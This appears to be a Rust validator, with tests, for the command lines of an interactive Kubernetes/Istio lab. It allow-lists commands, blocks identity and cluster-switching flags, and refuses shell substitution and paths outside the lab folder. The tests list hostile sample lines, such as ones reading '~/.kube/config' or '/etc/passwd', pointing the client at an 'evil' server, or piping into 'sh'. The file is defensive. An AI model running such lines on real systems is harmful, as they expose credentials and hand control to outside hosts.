//! What a line of lesson content may be (design, invariant 5). The interpreter refuses the same again when it runs; this is where an
//! author learns of it.

/// Commands that the lab prompt knows and lessons may use.
pub const COMMANDS: &[&str] = &[
    "kubectl", "istioctl", "cat", "clear", "cut", "echo", "grep", "head", "help", "ls", "rm", "sort", "tail", "tee", "uniq", "wc",
];

/// Flags that choose another cluster, another identity or another program.
const FORBIDDEN_FLAGS: &[&str] = &[
    "--kubeconfig",
    "--context",
    "--cluster",
    "--user",
    "--server",
    "--as",
    "--as-group",
    "--as-uid",
    "--as-user-extra",
    "--token",
    "--username",
    "--password",
    "--client-certificate",
    "--client-key",
    "--certificate-authority",
    "--insecure-skip-tls-verify",
    "--tls-server-name",
    "--cache-dir",
    "--kuberc",
    "--profile-output",
];

/// kubectl verbs that start a program of this machine, forward or copy to it, or change the kubeconfig.
const FORBIDDEN_VERBS: &[&str] = &["edit", "diff", "proxy", "port-forward", "cp", "plugin", "kuberc", "debug", "attach"];

/// Flags whose value is text, never a path.
const TEXT_FLAGS: &[&str] =
    &["--set", "--set-string", "-p", "--patch", "-l", "--selector", "-o", "--output", "--overrides", "--env"];

/// Everything that is wrong with a line of lesson content; empty when it may be used.
pub fn problems(line: &str) -> Vec<String> {
    let commands = match lex(line) {
        Ok(commands) => commands,
        Err(problem) => return vec![problem],
    };
    match commands.is_empty() {
        true => vec!["an empty line".into()],
        false => commands.iter().flat_map(|command| command_problems(command)).collect(),
    }
}

fn command_problems(words: &[Word]) -> Vec<String> {
    let mut out = Vec::new();
    let Some(first) = words.iter().find(|w| !w.redirect) else {
        return vec!["a redirection without a command".into()];
    };
    if first.is_assignment() {
        return vec![format!("`{}` sets a variable; lesson lines have no variables", first.text)];
    }
    if !COMMANDS.contains(&first.text.as_str()) {
        return vec![format!("`{}` is not a command of the lab prompt", first.text)];
    }
    let in_pod = words.iter().position(|w| w.text == "--" && !w.quoted).unwrap_or(words.len());
    let (ours, theirs) = words.split_at(in_pod);
    let kubectl = first.text == "kubectl";
    let mut before: &str = "";
    for (n, word) in ours.iter().enumerate() {
        out.extend(flag_problem(&first.text, word));
        let text = TEXT_FLAGS.contains(&before) && !word.text.contains("-file=");
        if n > 0 && !text && !(kubectl && before == "--raw") {
            out.extend(path_problem(word));
        }
        before = &word.text;
    }
    // A redirection after `--` is still ours.
    out.extend(theirs.iter().filter(|w| w.redirect).flat_map(path_problem));
    if kubectl {
        out.extend(verb_problem(ours));
    }
    out
}

fn flag_problem(command: &str, word: &Word) -> Option<String> {
    let flag = word.text.split('=').next().unwrap_or("");
    let short = match command {
        "kubectl" => flag == "-s" || (flag.starts_with("-s") && !flag.starts_with("--") && flag.len() > 2),
        "istioctl" => flag == "-c",
        _ => false,
    };
    (FORBIDDEN_FLAGS.contains(&flag) || short)
        .then(|| format!("`{flag}` chooses another cluster or identity; lesson lines always use the lab's own"))
}

fn path_problem(word: &Word) -> Option<String> {
    let (flag, value) = word.text.split_once('=').unwrap_or(("", &word.text));
    if TEXT_FLAGS.contains(&flag) && !value.contains("-file=") {
        return None;
    }
    let glued = ["-f", "-k", "-o"].iter().find_map(|f| word.text.strip_prefix(f)).unwrap_or("");
    let tails = word.text.match_indices('=').map(|(at, _)| &word.text[at + 1..]);
    tails.chain([word.text.as_str(), glued]).find_map(outside)
}

/// Why a value cannot name a file of the lab's folder.
fn outside(value: &str) -> Option<String> {
    if value.contains("://") {
        return Some(format!("`{value}` is a URL; lesson lines name files of the lab's folder"));
    }
    let climbs = value.starts_with('/') || value.starts_with('~') || value.split('/').any(|part| part == "..");
    let drive = value.len() > 2 && value.as_bytes()[1] == b':' && value.as_bytes()[2] == b'\\';
    (climbs || drive).then(|| format!("`{value}` is outside the lab's folder"))
}

fn verb_problem(words: &[Word]) -> Option<String> {
    let plain: Vec<&str> = words[1..].iter().map(|w| w.text.as_str()).filter(|w| !w.starts_with('-')).collect();
    let verb = plain.iter().find(|w| FORBIDDEN_VERBS.contains(w));
    // The verb comes first except for the values of flags before it: those are no verbs of ours either.
    let first = plain.first()?;
    if let Some(verb) = verb.filter(|v| *v == first || words[1].text.starts_with('-')) {
        return Some(format!("`kubectl {verb}` starts, forwards or copies on this machine; it cannot be part of a lesson"));
    }
    let config = *first == "config" && plain.get(1).is_some_and(|w| !matches!(*w, "current-context" | "view" | "get-contexts"));
    config.then(|| format!("`kubectl config {}` changes the kubeconfig", plain[1]))
}

#[derive(Debug, Default, Clone)]
struct Word {
    text: String,
    quoted: bool,
    /// The target of a redirection.
    redirect: bool,
}

impl Word {
    fn is_assignment(&self) -> bool {
        match self.text.split_once('=') {
            Some((name, _)) => {
                !name.is_empty()
                    && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                    && !name.starts_with(|c: char| c.is_ascii_digit())
            }
            None => false,
        }
    }
}

/// The commands of a line, each as words. Only what lessons need: quotes, pipes, `;`, `&&`, `||`, redirection, here-documents.
fn lex(line: &str) -> Result<Vec<Vec<Word>>, String> {
    let mut lexer =
        Lexer { chars: line.chars().peekable(), commands: vec![Vec::new()], word: None, redirect: false, here: Vec::new() };
    lexer.run()?;
    let mut commands = lexer.commands;
    commands.retain(|c| !c.is_empty());
    Ok(commands)
}

struct Lexer<'a> {
    chars: std::iter::Peekable<std::str::Chars<'a>>,
    commands: Vec<Vec<Word>>,
    word: Option<Word>,
    /// The next word is the target of a redirection.
    redirect: bool,
    /// Delimiters of here-documents that begin after this line, and whether they are quoted.
    here: Vec<(String, bool)>,
}

impl Lexer<'_> {
    fn run(&mut self) -> Result<(), String> {
        while let Some(c) = self.chars.next() {
            match c {
                ' ' | '\t' => self.end_word(),
                '\n' => {
                    self.end_word();
                    self.documents()?;
                    self.commands.push(Vec::new());
                }
                '\'' => self.single()?,
                '"' => self.double()?,
                '\\' => {
                    let next = self.chars.next().ok_or("a backslash at the end")?;
                    if next != '\n' {
                        self.word().text.push(next);
                    }
                }
                '$' => return Err("`$` outside single quotes: lesson lines have no variables and no substitution".into()),
                '`' => return Err("a back-tick: lesson lines have no substitution".into()),
                '|' | ';' => self.separator(c),
                '&' => self.ampersand()?,
                '>' => self.output(),
                '<' => self.input()?,
                '(' | ')' => return Err(format!("`{c}` outside quotes: lesson lines have no subshells")),
                '#' if self.word.is_none() => while self.chars.next_if(|c| *c != '\n').is_some() {},
                _ => self.word().text.push(c),
            }
        }
        self.end_word();
        match self.here.is_empty() {
            true => Ok(()),
            false => Err("a here-document without its text".into()),
        }
    }

    fn word(&mut self) -> &mut Word {
        self.word.get_or_insert_with(Word::default)
    }

    fn end_word(&mut self) {
        if let Some(mut word) = self.word.take() {
            word.redirect = std::mem::take(&mut self.redirect);
            self.commands.last_mut().expect("starts with one").push(word);
        }
    }

    fn separator(&mut self, c: char) {
        self.end_word();
        self.chars.next_if_eq(&c);
        self.commands.push(Vec::new());
    }

    fn ampersand(&mut self) -> Result<(), String> {
        self.end_word();
        match self.chars.next_if_eq(&'&') {
            Some(_) => self.commands.push(Vec::new()),
            None => return Err("`&`: lesson lines start nothing in the background".into()),
        }
        Ok(())
    }

    fn output(&mut self) {
        if self.word.as_ref().is_some_and(|w| w.text.chars().all(|c| c.is_ascii_digit())) {
            self.word = None;
        }
        self.end_word();
        self.chars.next_if_eq(&'>');
        if self.chars.next_if_eq(&'&').is_some() {
            self.chars.next();
            return;
        }
        self.redirect = true;
    }

    fn input(&mut self) -> Result<(), String> {
        self.end_word();
        if self.chars.next_if_eq(&'<').is_none() {
            self.redirect = true;
            return Ok(());
        }
        while self.chars.next_if(|c| *c == ' ').is_some() {}
        let quoted = self.chars.peek().is_some_and(|c| matches!(c, '\'' | '"'));
        let mut name = String::new();
        while let Some(c) = self.chars.next_if(|c| !c.is_whitespace()) {
            name.push(c);
        }
        let name = name.trim_matches(['\'', '"']).to_string();
        match name.is_empty() || name.starts_with('<') {
            true => Err("a here-document without a delimiter".into()),
            false => {
                self.here.push((name, quoted));
                Ok(())
            }
        }
    }

    /// Skips the texts of the here-documents that the line announced.
    fn documents(&mut self) -> Result<(), String> {
        for (name, quoted) in std::mem::take(&mut self.here) {
            loop {
                let mut text = String::new();
                let more = loop {
                    match self.chars.next() {
                        Some('\n') => break true,
                        Some(c) => text.push(c),
                        None => break false,
                    }
                };
                if text == name {
                    break;
                }
                if !quoted && text.contains(['$', '`']) {
                    return Err(format!("substitution in a here-document: quote its delimiter, <<'{name}'"));
                }
                if !more {
                    return Err(format!("the here-document's end `{name}` is missing"));
                }
            }
        }
        Ok(())
    }

    fn single(&mut self) -> Result<(), String> {
        self.word().quoted = true;
        loop {
            match self.chars.next() {
                Some('\'') => return Ok(()),
                Some(c) => self.word().text.push(c),
                None => return Err("a single quote is not closed".into()),
            }
        }
    }

    fn double(&mut self) -> Result<(), String> {
        self.word().quoted = true;
        loop {
            match self.chars.next() {
                Some('"') => return Ok(()),
                Some('\\') => {
                    let next = self.chars.next().ok_or("a backslash at the end")?;
                    self.word().text.push(next);
                }
                Some('$' | '`') => return Err("substitution in double quotes: lesson lines have no variables".into()),
                Some(c) => self.word().text.push(c),
                None => return Err("a double quote is not closed".into()),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::problems;

    #[test]
    fn lines_as_people_type_them_are_fine() {
        for line in [
            "kubectl get pods -n istio-system",
            "kubectl exec -ti test -- curl --head -L http://www.wikipedia.org",
            "kubectl exec test -- sh -c 'echo $HOME; cat /etc/hosts'",
            "kubectl run test --image=curlimages/curl:8.1.2 --restart=Never --command -- sleep 3600",
            "istioctl install --set profile=demo --set meshConfig.accessLogFile=/dev/stdout -y",
            "kubectl get cm istio -n istio-system -o jsonpath='{.data.mesh}' | grep -A1 outbound > mesh.txt",
            "kubectl apply -f serviceentry.yaml && kubectl apply -f folder/vs.yaml",
            "kubectl apply -f - <<'EOF'\na: $x /etc/passwd\nEOF",
            "kubectl patch vs x --type=json -p='[{\"op\":\"remove\",\"path\":\"/spec/http/0\"}]'",
            "kubectl patch vs x --type json -p '{\"spec\":{\"a\":\"http://x\"}}'",
            "kubectl get --raw /version",
            "kubectl label namespace default istio-injection=enabled",
            "kubectl logs test -c istio-proxy --tail=5",
            "kubectl config current-context",
            "kubectl get pods 2>&1 | head -3",
            "kubectl get pod edit",
        ] {
            assert_eq!(problems(line), Vec::<String>::new(), "{line}");
        }
    }

    #[test]
    fn hostile_lines_are_named() {
        for (line, part) in [
            ("X=1 kubectl get pods", "sets a variable"),
            ("X=1", "sets a variable"),
            ("kubectl get pods --kubeconfig=/tmp/x", "`--kubeconfig`"),
            ("kubectl --context other get pods", "`--context`"),
            ("kubectl get pods --server https://evil", "`--server`"),
            ("kubectl -s https://evil get pods", "`-s`"),
            ("kubectl get pods --as=root", "`--as`"),
            ("kubectl get pods --token abc", "`--token`"),
            ("istioctl -c /tmp/config version", "`-c`"),
            ("kubectl apply -f https://evil/x.yaml", "is a URL"),
            ("kubectl apply -fhttps://evil/x.yaml", "is a URL"),
            ("kubectl apply --filename=https://evil/x.yaml", "is a URL"),
            ("kubectl apply -f /etc/passwd", "outside the lab's folder"),
            ("kubectl apply -f ../../x.yaml", "outside the lab's folder"),
            ("kubectl create cm x --from-file=/etc/passwd", "outside the lab's folder"),
            ("kubectl create cm x --from-file=a=/etc/passwd", "outside the lab's folder"),
            ("kubectl get pods -o jsonpath-file=/etc/passwd", "outside the lab's folder"),
            ("kubectl get pods > /tmp/canary", "outside the lab's folder"),
            ("kubectl exec test -- cat x > ~/canary", "outside the lab's folder"),
            ("cat ~/.kube/config", "outside the lab's folder"),
            ("cat < /etc/passwd", "outside the lab's folder"),
            ("kubectl edit cm istio", "`kubectl edit`"),
            ("kubectl -n x edit cm istio", "`kubectl edit`"),
            ("kubectl diff -f x.yaml", "`kubectl diff`"),
            ("kubectl proxy", "`kubectl proxy`"),
            ("kubectl port-forward pod/x 80", "`kubectl port-forward`"),
            ("kubectl cp x:/a b", "`kubectl cp`"),
            ("kubectl config use-context other", "changes the kubeconfig"),
            ("bash -c 'touch canary'", "`bash` is not a command"),
            ("kubectl get pods; sh x", "`sh` is not a command"),
            ("kubectl get pods | sh", "`sh` is not a command"),
            ("kubectl get pods & touch x", "background"),
            ("kubectl get $(touch canary)", "no substitution"),
            ("kubectl get `touch canary`", "back-tick"),
            ("kubectl get \"$HOME\"", "double quotes"),
            ("(touch canary)", "subshells"),
            ("kubectl apply -f - <<EOF\n$(touch canary)\nEOF", "here-document"),
            ("kubectl apply -f - <<EOF\nx: 1", "is missing"),
            ("kubectl get 'pods", "not closed"),
            ("", "empty"),
        ] {
            let found = problems(line);
            assert!(found.iter().any(|p| p.contains(part)), "{line}: {found:?}");
        }
    }
}
